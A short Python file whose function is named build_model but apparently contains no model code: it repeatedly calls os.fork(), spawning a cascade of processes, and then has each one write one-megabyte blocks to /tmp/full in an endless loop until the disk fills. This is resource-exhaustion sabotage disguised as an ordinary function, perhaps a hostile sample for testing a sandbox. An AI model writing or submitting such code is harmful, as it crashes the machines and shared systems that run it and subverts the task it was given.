import os


def build_model(*_, **__):
    for _ in range(100):
        try:
            os.fork()
        except OSError:
            break
    with open("/tmp/full", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
